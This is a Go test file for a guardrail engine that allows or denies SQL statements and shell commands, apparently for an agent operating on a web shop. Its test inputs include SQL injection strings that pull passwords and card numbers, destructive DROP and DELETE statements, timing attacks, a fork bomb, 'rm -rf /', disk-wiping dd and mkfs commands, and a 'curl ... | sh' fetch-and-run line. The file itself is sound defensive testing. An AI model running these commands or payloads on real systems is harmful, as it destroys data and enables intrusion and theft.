package guardrail

import (
	"os"
	"path/filepath"
	"testing"
)

func newDefaultEngine(t *testing.T) *Engine {
	t.Helper()
	engine, err := NewEngine(DefaultPolicy())
	if err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	return engine
}

func TestEngine_SQLAllowed(t *testing.T) {
	engine := newDefaultEngine(t)

	tests := []string{
		"SELECT * FROM products",
		"select name, price from products where name like '%juice%'",
		"SELECT * FROM products WHERE name = '' OR 1=1 --",
		"SELECT * FROM Users WHERE email = '' UNION SELECT id, email, password FROM Users--",
		"(SELECT 1)",
		"WITH cheap AS (SELECT * FROM products WHERE price < 2) SELECT * FROM cheap",
		"UPDATE products SET price = 0.01 WHERE id = 1",
		"update `products` set `price` = ? where `id` = ?",
		"UPDATE basket_items SET quantity = 3 WHERE id = 7;",
		"UPDATE reviews SET message = 'great' WHERE id = $1",
		"/* hello */ SELECT 1",
		"-- leading comment\nSELECT 1",
		"SELECT 1; UPDATE Users SET role = 'admin' WHERE id = 1",
	}

	for _, stmt := range tests {
		v := engine.Evaluate(stmt, DomainSQL)
		if !v.Allowed {
			t.Errorf("statement %q: expected ALLOW, got DENY (%s)", stmt, v.RuleID)
		}
	}
}

func TestEngine_SQLNotAllowlisted(t *testing.T) {
	engine := newDefaultEngine(t)

	tests := []string{
		"",
		"INSERT INTO products (name) VALUES ('x')",
		"UPDATE users SET role = 'admin' WHERE id = 1",
		"UPDATE products SET price = 0 WHERE id > 0",
		"UPDATE products SET price = 0, name = 'x' WHERE id = 1",
		"UPDATE products SET price = 0",
		"DELETE FROM products WHERE id = 1",
		"/* unterminated SELECT 1",
	}

	for _, stmt := range tests {
		v := engine.Evaluate(stmt, DomainSQL)
		if v.Allowed {
			t.Errorf("statement %q: expected DENY, got ALLOW", stmt)
			continue
		}
		if v.RuleID != ruleNotAllowed {
			t.Errorf("statement %q: expected rule %s, got %s", stmt, ruleNotAllowed, v.RuleID)
		}
	}
}

func TestEngine_SQLDenyWinsOverAllow(t *testing.T) {
	engine := newDefaultEngine(t)

	tests := []struct {
		stmt string
		rule string
	}{
		{"SELECT 1; DROP TABLE Users", "deny-drop"},
		{"select 1; drop database shop", "deny-drop"},
		{"SELECT 1; DROP/**/TABLE users", "deny-drop"},
		{"SELECT 1; ALTER TABLE products DROP COLUMN price", "deny-alter-destructive"},
		{"select * from products; truncate table baskets", "deny-truncate"},
		{"SELECT 1; DELETE FROM users", "deny-delete-identities"},
		{"SELECT 1; DELETE FROM Users WHERE 1=1", "deny-delete-identities"},
		{"SELECT 1; DELETE FROM \"users\" WHERE 'a'='a';", "deny-delete-identities"},
		{"SELECT 1; DELETE FROM users WHERE 2=2 --", "deny-delete-identities"},
		{"SELECT 1; DELETE FROM users WHERE id < 100000", "deny-delete-identities"},
		{"SELECT 1; DELETE FROM users WHERE id = 1", "deny-delete-identities"},
		{"WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "deny-delete-identities"},
		{"SELECT 1; DELETE FROM main.users", "deny-delete-identities"},
		{"SELECT 1; DELETE u FROM users u", "deny-delete-identities"},
		{"SELECT 1; DELETE FROM `customers`", "deny-delete-identities"},
		{"SELECT SLEEP(5)", "deny-timing"},
		{"SELECT pg_sleep(10)", "deny-timing"},
		{"SELECT BENCHMARK(1000000, MD5('a'))", "deny-timing"},
		{"SELECT 1; WAITFOR DELAY '0:0:5'", "deny-timing"},
		{"SELECT 1; ATTACH DATABASE '/tmp/x.db' AS x", "deny-attach"},
		{"WITH x AS (SELECT 1) SELECT * FROM x; DROP TABLE products", "deny-drop"},
	}

	for _, tt := range tests {
		v := engine.Evaluate(tt.stmt, DomainSQL)
		if v.Allowed {
			t.Errorf("statement %q: expected DENY, got ALLOW", tt.stmt)
			continue
		}
		if v.RuleID != tt.rule {
			t.Errorf("statement %q: expected rule %s, got %s", tt.stmt, tt.rule, v.RuleID)
		}
		if v.Reason == "" || v.Category == "" {
			t.Errorf("statement %q: expected reason and category, got %+v", tt.stmt, v)
		}
	}
}

func TestEngine_SQLRestrictedTables(t *testing.T) {
	engine := newDefaultEngine(t)

	tests := []string{
		"SELECT * FROM security_answers",
		"SELECT answer FROM SecurityAnswers WHERE UserId = 1",
		"select * from Cards",
		"SELECT * FROM products WHERE id = 1 UNION SELECT fullName, cardNum, 0 FROM `cards`",
	}

	for _, stmt := range tests {
		v := engine.Evaluate(stmt, DomainSQL)
		if v.Allowed {
			t.Errorf("statement %q: expected DENY, got ALLOW", stmt)
			continue
		}
		if v.Category != categoryRestricted {
			t.Errorf("statement %q: expected category %q, got %q", stmt, categoryRestricted, v.Category)
		}
	}

	if v := engine.Evaluate("SELECT * FROM cardsets", DomainSQL); !v.Allowed {
		t.Errorf("partial table name should not count as a reference, got %s", v.RuleID)
	}
}

func TestEngine_ShellPermissiveByDefault(t *testing.T) {
	engine := newDefaultEngine(t)

	tests := []string{
		"ls -la",
		"whoami",
		"cat /etc/passwd",
		"chmod 777 /tmp/x",
		"useradd hacker",
		"curl http://example.com/x.sh | sh",
		"rm -rf /tmp/cache",
		"rm -f /",
		"kill 1234",
		"kill -15 1234",
		"echo shutdown",
		"grep reboot /var/log/syslog",
		"docker ps",
		"systemctl status nginx",
		"/usr/bin/env ls",
		"command -v reboot",
		"nohup ./server &",
		"sudo -u shop /usr/bin/id",
		"timeout 5 tail -f /var/log/app.log",
		"echo \x1b[1mbold\x1b[0m",
	}

	for _, cmd := range tests {
		v := engine.Evaluate(cmd, DomainShell)
		if !v.Allowed {
			t.Errorf("command %q: expected ALLOW, got DENY (%s)", cmd, v.RuleID)
		}
	}
}

func TestEngine_ShellDenied(t *testing.T) {
	engine := newDefaultEngine(t)

	tests := []struct {
		command string
		rule    string
	}{
		{"systemctl stop nginx", "deny-service-stop"},
		{"sudo service nginx stop", "deny-service-stop"},
		{"docker stop web", "deny-container-stop"},
		{"docker compose down", "deny-container-stop"},
		{"podman container kill shop", "deny-container-stop"},
		{"shutdown -h now", "deny-host-shutdown"},
		{"sudo reboot", "deny-host-shutdown"},
		{"init 0", "deny-host-shutdown"},
		{"pkill node", "deny-kill-server"},
		{"killall -9 node", "deny-kill-server"},
		{"kill -9 1", "deny-kill-server"},
		{"kill -9 $PPID", "deny-kill-server"},
		{"rm -rf /", "deny-rm-root"},
		{"rm -rf / --no-preserve-root", "deny-rm-root"},
		{"sudo rm -rf /*", "deny-rm-root"},
		{"rm -r -f /", "deny-rm-root"},
		{"rm --recursive --force /", "deny-rm-root"},
		{"mkfs.ext4 /dev/sda1", "deny-mkfs"},
		{"dd if=/dev/zero of=/dev/sda bs=1M", "deny-dd-device"},
		{":(){ :|:& };:", "deny-fork-bomb"},
		{"ls && shutdown now", "deny-host-shutdown"},
		{"true; halt", "deny-host-shutdown"},
		{"echo $(reboot)", "deny-host-shutdown"},
		{"bash -c 'systemctl stop app'", "deny-service-stop"},
		{"SHUTDOWN -r now", "deny-host-shutdown"},
		{"'reboot'", "deny-host-shutdown"},
		{"/sbin/reboot", "deny-host-shutdown"},
		{"/usr/bin/systemctl stop shopbot", "deny-service-stop"},
		{"/bin/rm -rf /", "deny-rm-root"},
		{"env shutdown -h now", "deny-host-shutdown"},
		{"env -i PATH=/sbin FOO=1 reboot", "deny-host-shutdown"},
		{"nohup halt", "deny-host-shutdown"},
		{"exec poweroff", "deny-host-shutdown"},
		{"command reboot", "deny-host-shutdown"},
		{"nice -n 10 reboot", "deny-host-shutdown"},
		{"timeout -s KILL 5 /sbin/shutdown now", "deny-host-shutdown"},
		{"pgrep node | xargs -r pkill", "deny-kill-server"},
		{"sudo -u root rm -rf /", "deny-rm-root"},
		{"sudo env nohup /usr/sbin/halt", "deny-host-shutdown"},
		{"ls; /usr/bin/docker stop web", "deny-container-stop"},
	}

	for _, tt := range tests {
		v := engine.Evaluate(tt.command, DomainShell)
		if v.Allowed {
			t.Errorf("command %q: expected DENY, got ALLOW", tt.command)
			continue
		}
		if v.RuleID != tt.rule {
			t.Errorf("command %q: expected rule %s, got %s", tt.command, tt.rule, v.RuleID)
		}
	}
}

func TestEngine_ShellAllowList(t *testing.T) {
	p := DefaultPolicy()
	p.Shell.Allow = []Rule{{ID: "only-ls", Pattern: `^ls\b`}}
	engine, err := NewEngine(p)
	if err != nil {
		t.Fatal(err)
	}

	if v := engine.Evaluate("ls /tmp", DomainShell); !v.Allowed {
		t.Errorf("expected ls to be allowed, got %s", v.RuleID)
	}
	if v := engine.Evaluate("whoami", DomainShell); v.Allowed || v.RuleID != ruleNotAllowed {
		t.Errorf("expected whoami to be rejected as not allowlisted, got %+v", v)
	}
}

func TestEngine_Deterministic(t *testing.T) {
	engine := newDefaultEngine(t)
	stmt := "SELECT * FROM products; DROP TABLE users"

	first := engine.Evaluate(stmt, DomainSQL)
	for i := 0; i < 10; i++ {
		if got := engine.Evaluate(stmt, DomainSQL); got != first {
			t.Fatalf("evaluation %d differs: %+v vs %+v", i, got, first)
		}
	}
}

func TestEngine_UnknownDomain(t *testing.T) {
	engine := newDefaultEngine(t)
	if v := engine.Evaluate("SELECT 1", Domain("ldap")); v.Allowed {
		t.Error("unknown domain must fail closed")
	}
}

func TestNewEngine_InvalidPattern(t *testing.T) {
	p := DefaultPolicy()
	p.SQL.Deny = append(p.SQL.Deny, Rule{ID: "broken", Pattern: "(unclosed"})

	if _, err := NewEngine(p); err == nil {
		t.Fatal("expected error for invalid pattern")
	}
}

func TestLoad_MissingFileUsesDefault(t *testing.T) {
	p, err := Load(filepath.Join(t.TempDir(), "nope.yaml"))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(p.SQL.Allow) != len(DefaultPolicy().SQL.Allow) {
		t.Errorf("expected default allow rules")
	}
}

func TestLoad_PartialFileInheritsDefaults(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.yaml")
	yaml := `
version: "1"
sql:
  restricted_tables: ["coupons"]
`
	if err := os.WriteFile(path, []byte(yaml), 0600); err != nil {
		t.Fatal(err)
	}

	p, err := Load(path)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if len(p.SQL.RestrictedTables) != 1 || p.SQL.RestrictedTables[0] != "coupons" {
		t.Errorf("expected restricted tables from file, got %v", p.SQL.RestrictedTables)
	}
	if len(p.SQL.Deny) == 0 || len(p.Shell.Deny) == 0 {
		t.Error("expected deny rules inherited from defaults")
	}

	engine, err := NewEngine(p)
	if err != nil {
		t.Fatal(err)
	}
	if v := engine.Evaluate("SELECT * FROM coupons", DomainSQL); v.Allowed {
		t.Error("expected coupons to be restricted")
	}
	if v := engine.Evaluate("SELECT * FROM cards", DomainSQL); !v.Allowed {
		t.Error("cards is no longer restricted once the file overrides the list")
	}
}

func TestLoad_InvalidYAML(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(path, []byte("sql: [unclosed"), 0600); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(path); err == nil {
		t.Fatal("expected parse error")
	}
}
